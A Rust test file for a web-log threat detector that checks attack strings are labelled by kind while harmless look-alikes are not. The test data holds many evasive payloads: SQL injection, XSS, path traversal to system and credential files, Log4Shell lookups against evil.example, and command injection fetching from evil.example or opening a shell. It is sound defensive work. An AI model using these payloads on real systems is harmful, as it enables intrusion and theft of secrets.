//! Tests of kinds of attacks with their evasions, and of harmless text that resembles each kind.

mod files;
mod people;
mod properties;
mod values;

use super::*;

fn threats(place: Place, text: &str) -> Vec<&'static str> {
    ThreatFinder::new().in_text(text, place).names().collect()
}

/// The threats of a target, written as in a log.
fn of_target(target: &str) -> Vec<&'static str> {
    threats(Place::Target, target)
}

fn assert_kind(kind: &str, targets: &[&str]) {
    for target in targets {
        assert!(
            of_target(target).contains(&kind),
            "{target}: {:?}",
            of_target(target)
        );
    }
}

fn assert_clean(targets: &[&str]) {
    for target in targets {
        assert_eq!(of_target(target), [""; 0], "{target}");
    }
}

#[test]
fn injected_sql_is_found_in_every_spelling() {
    assert_kind(
        "sql_injection",
        &[
            "/item?id=1%20UNION%20SELECT%201,2,3--",
            "/item?id=-1+union+all+select+null,user(),null",
            "/item?id=1/**/UnIoN/**/SeLeCt/**/password/**/from/**/users",
            "/item?id=1%20/*!50000union*/%20/*!50000select*/%201,2",
            "/item?id=1%2527%2520or%25201%253D1--",
            "/item?id=1%u0027%20or%20%u0027a%u0027=%u0027a",
            "/item?id=1'%20or%20'1'='1",
            "/item?id=1%27)%20or%20(%27a%27=%27a",
            "/item?id=1%22%20or%20%22%22=%22",
            "/item?id=1+or+1=1",
            "/item?id=1)or(1=1",
            "/item?id=1%0aand%0a2%3e1--+-",
            "/item?id=1'%20%26%26%20'1'='1",
            "/item?id=1'||'1'='1",
            "/login?user=admin'--",
            "/login?user=admin'%20%23",
            "/item?id=1;drop%20table%20users",
            "/item?id=1';exec%20master..xp_cmdshell%20'dir'--",
            "/item?id=1;waitfor%20delay%20'0:0:5'--",
            "/item?id=1%20and%20sleep(5)",
            "/item?id=(select*from(select(sleep(20)))a)",
            "/item?id=1%20and%20(select%201%20from%20dual)=1",
            "/item?id=1'%20order%20by%2010--%20-",
            "/item?id=1'%20group%20by%20a%20having%201=1--",
            "/item?id=extractvalue(1,concat(0x7e,version()))",
            "/item?id=1%20and%20ascii(substring(user(),1,1))%3E64",
            "/item/1'%20and%20'1'='1",
            "/item?id=1'",
            "/api?user[$ne]=x&pass[$ne]=y",
            "/api?q={%22$where%22:%221==1%22}",
        ],
    );
    assert_clean(&[
        "/search?q=select+a+union+representative",
        "/search?q=credit%20union%20select%20account",
        "/search?q=select+shoes+from+nike",
        "/search?q=drop+table+leaf+kitchen",
        "/search?q=delete+from+cart",
        "/search?q=rock+'n'+roll+and+blues",
        "/search?q=%22red+shoes%22+or+%22blue+shoes%22",
        "/search?q=men's+shoes+or+women's+shoes",
        "/search?q=don't+stop+--+live+version",
        "/search?q=the+%22best%22+--+ever",
        "/search?q=sleep+(deep)",
        "/search?q=l'or+et+l'argent",
        "/search?name=O%27Brien",
        "/items?$filter=price%20gt%205%20and%20name%20eq%20'a'&$orderby=name%20desc",
        "/search?jql=status%20in%20('Open')%20AND%20type%20=%20'Bug'%20ORDER%20BY%20created",
        "/wiki/SQL_injection",
        "/blog/select-a-union-representative",
        "/q?a=1&&b=2",
        "/q?range=1--5",
    ]);
}

#[test]
fn script_and_markup_are_found_in_every_spelling() {
    assert_kind(
        "xss",
        &[
            "/s?q=<script>alert(1)</script>",
            "/s?q=%3CScRiPt%3Ealert(1)%3C/sCrIpT%3E",
            "/s?q=%253Cscript%253Ealert(1)",
            "/s?q=%u003cscript%u003ealert(1)",
            "/s?q=%EF%BC%9Cscript%EF%BC%9E",
            "/s?q=%c0%bcscript%c0%be",
            "/s?q=%26lt;script%26gt;",
            "/s?q=%5Cx3cscript%5Cx3e",
            "/s?q=<img+src=x+onerror=alert(1)>",
            "/s?q=<svg/onload=alert(1)>",
            "/s?q=%22+onmouseover=%22alert(1)",
            "/s?q='%20autofocus%20onfocus=alert(1)%20x='",
            "/s?url=javascript:alert(document.cookie)",
            "/s?url=java%0ascript:alert(1)//",
            "/s?url=%6a%61vascript%3aalert(1)",
            "/s?url=data:text/html;base64,PHNjcmlwdD4=",
            "/s?q=<iframe+src=//evil.example>",
            "/s?q=<a+href=%22javascript:alert(1)%22>x</a>",
            "/s?q='-alert(1)-'",
            "/s?q=%3Cdetails%20open%20ontoggle=confirm`1`%3E",
            "/%3Cscript%3Ealert(1)%3C/script%3E.php",
        ],
    );
    assert_clean(&[
        "/javascript:void(0)",
        "/s?q=javascript:+the+good+parts",
        "/s?q=how+to+use+alert()+in+javascript",
        "/s?q=i+%3C3+you",
        "/s?q=a%3Cb+and+b%3Ec",
        "/s?q=<b>bold</b>",
        "/s?onclick=yes&onload=no",
        "/wiki/Cross-site_scripting",
        "/static/onload.js",
    ]);
}

#[test]
fn steps_upward_and_files_of_the_system_are_found_in_every_spelling() {
    assert_kind(
        "path_traversal",
        &[
            "/../../../etc/passwd",
            "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
            "/static/%2e%2e/%2e%2e/secret",
            "/static/%252e%252e%252fsecret",
            "/static/..%c0%af..%c0%afwinnt/system32/cmd.exe",
            "/static/..%5c..%5cboot.ini",
            "/static/....//....//....//a",
            "/app/..;/..;/..;/manager",
            "/show?file=../../config",
            "/show?file=/etc/passwd",
            "/show?file=c:%5cwindows%5cwin.ini",
            "/show?page=php://filter/convert.base64-encode/resource=index",
            "/show?page=file:///etc/hosts",
            "/show?page=http://evil.example/x/shell.txt?",
            "/show?file=report.php%00.jpg",
            "/show?file=..%u2216..%u2216a",
            "/WEB-INF/web.xml",
            "/proc/self/environ",
        ],
    );
    assert_clean(&[
        "/blog/../images/logo.png",
        "/a/b/../../c.png",
        "/../images/logo.png",
        "/login?return=../cart.php",
        "/files/report..final.pdf",
        "/what...is/this",
        "/share?u=https%3A%2F%2Fexample.com%2F%3Fa%3Db",
        "/share?u=https://example.com/?",
        "/docs/etc/passwd-format.html",
        "/q?page=c:home",
    ]);
}

#[test]
fn lookups_are_found_however_their_letters_are_hidden() {
    let lookups = [
        "${jndi:ldap://evil.example/a}",
        "$%7Bjndi:dns://evil.example%7D",
        "%24%7bJNDI%3armi%3a//evil.example%7d",
        "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
        "${j${k8s:k5:-ND}i:ldap://evil.example}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://evil.example/a}",
        "${jnd${upper:\u{131}}:ldap://evil.example}",
        "${jndi${123%25ff:-}:ldap://evil.example}",
        "${env:AWS_SECRET_ACCESS_KEY}",
        "&#x24;&#123;jndi:ldap://evil.example}",
        "\\u0024\\u007bjndi:ldap://evil.example}",
    ];
    for lookup in lookups {
        for place in [Place::Target, Place::Referrer, Place::Agent] {
            assert!(threats(place, lookup).contains(&"jndi"), "{lookup}");
        }
        assert!(
            of_target(&format!("/?x={lookup}")).contains(&"jndi"),
            "{lookup}"
        );
    }
    assert_clean(&[
        "/?q=%24%7Bname%7D",
        "/js/jndi-tutorial.html",
        "/?q=${price}",
    ]);
}

#[test]
fn commands_and_code_are_found_in_every_spelling() {
    assert_kind(
        "command_injection",
        &[
            "/ping?host=127.0.0.1;cat+/etc/hosts",
            "/ping?host=127.0.0.1%3Bid",
            "/ping?host=|id",
            "/ping?host=127.0.0.1%26%26whoami",
            "/ping?host=`wget+http://evil.example/x`",
            "/ping?host=$(curl%20evil.example)",
            "/ping?host=%0Auname%20-a",
            "/ping?host=;c'a't%20/etc/hosts",
            "/ping?host=;w%5choami",
            "/ping?host=;cat$IFS/etc/hosts",
            "/ping?host=;/bin/sh%20-i",
            "/ping?host=%7Cpowershell%20-enc%20AAAA",
            "/cgi-bin/x?cmd.exe+/c+dir",
            "/run?x=ls+-la",
            "/x?y=%3C?php%20system($_GET[0]);",
            "/x?y=%7B%7B7*7%7D%7D",
            "/x?y=${T(java.lang.Runtime).getRuntime().exec('id')}",
            "/x?y=%25%7B(%23_memberAccess=1)%7D",
            "/index.php?s=/Index/think/app/invokefunction&function=call_user_func_array",
            "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
            "/x?y=O:8:%22stdClass%22:0:{}",
        ],
    );
    assert!(
        threats(Place::Agent, "() { :; }; /bin/ping -c 1 198.51.100.7")
            .contains(&"command_injection")
    );
    assert!(
        threats(
            Place::Referrer,
            "http://a.example/?x=;wget+http://evil.example/x"
        )
        .contains(&"command_injection")
    );
    assert_clean(&[
        "/q?fields=name|id|env|host",
        "/q?fields=id;name;type",
        "/cart;jsessionid=ABC123?x=1",
        "/search?q=red|green|blue",
        "/search?q=cat+/dog+food",
        "/search?q=what+is+wget",
        "/search?q=%60ls%60+command",
        "/search?q=find+me+a+host;+last+one",
        "/search?q=%7B%7Bname%7D%7D",
        "/q?text=first%0Aid%0Athird",
        "/q?cmd=login&command=list",
        "/fonts/css?family=Open+Sans:400,700|Roboto:300",
    ]);
    for agent in [
        "Mozilla/5.0 (compatible; host 1.0; find; id)",
        "LiveFeeds (webmaster@example.com; for http://www.example.com/users/; 8 readers)",
        "Mozilla/5.0 (X11; U; Linux; en-us; sh) Gecko",
    ] {
        assert_eq!(threats(Place::Agent, agent), [""; 0], "{agent}");
    }
}

#[test]
fn web_shells_secret_files_and_scanners_are_found() {
    assert_kind(
        "webshell",
        &[
            "/uploads/c99.php",
            "/images/shell.jsp?x=1",
            "/a.php?cmd=whoami",
            "/x.aspx?exec=dir+c:\\",
            "/x?a=@eval($_POST[1]);",
            "/shell?cd+/tmp;wget+evil.example/a",
        ],
    );
    assert_clean(&[
        "/tags/shell?page=1",
        "/docs/cmd.html",
        "/q?cmd=_xclick&business=a",
        "/q?exec=false",
    ]);
    assert_kind(
        "secret_file",
        &[
            "/.env",
            "/app/.env.production",
            "/.git/config",
            "/.git",
            "/%2egit/HEAD",
            "/.aws/credentials",
            "/.ssh/id_rsa",
            "/wp-config.php.bak",
            "/wp-config.php~",
            "/backup/db.sql",
            "/.svn/entries",
            "/.DS_Store",
            "/phpinfo.php",
            "/server-status",
            "/actuator/env",
            "/?file=wp-config.php",
        ],
    );
    assert_clean(&[
        "/.well-known/acme-challenge/abc",
        "/git/repo.git/info/refs?service=git-upload-pack",
        "/env/",
        "/page/.html",
        "/search?q=.env",
        "/search?q=wp-config.php",
        "/docs/environment",
        "/sql/intro.html",
    ]);
    assert_kind(
        "scanner",
        &[
            "/nmaplowercheck1",
            "/acunetix-wvs-test-for-some-inexistent-file",
            "/w00tw00t.at.ISC.SANS.DFind:)",
            "/phpmyadmin/scripts/setup.php",
            "/?x=http://a.oastify.com",
        ],
    );
    for agent in [
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.1.6)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
        "Fuzz Faster U Fool v2.0",
    ] {
        assert_eq!(threats(Place::Agent, agent), ["scanner"], "{agent}");
    }
    assert_clean(&["/search?q=nikto+kicks", "/blog/nuclei-of-cells"]);
}

#[test]
fn an_attack_is_found_even_if_redaction_hides_it() {
    let mut event = AccessEvent::default();
    event.url.original = Some("/a?token=REDACTED".into());
    assert!(ThreatFinder::new().find(&event).is_empty());
    event.hidden.get_or_insert_default().target = Some("/a?token='+or+1=1--".into());
    let found = ThreatFinder::new().find(&event);
    assert!(found.has(Threat::SqlInjection));
    assert!(!format!("{event:?}").contains("1=1"));
}

#[test]
fn every_word_is_unique_and_in_small_letters() {
    for (index, (word, check)) in words::all().enumerate() {
        assert!(
            !word.iter().any(u8::is_ascii_uppercase),
            "{check:?} {word:?}"
        );
        assert!(
            !words::all()
                .take(index)
                .any(|(other, of)| other == word && of == check),
            "{check:?} {word:?}"
        );
    }
}

#[test]
fn a_long_text_of_signs_is_examined_in_bounded_time() {
    for sign in [
        "<", "${", "'or(", "..", "/*", "select(", ";", "&#60;", "%3c",
    ] {
        let text = format!("/?x={}", sign.repeat(8_192 / sign.len()));
        let _ = of_target(&text);
    }
}
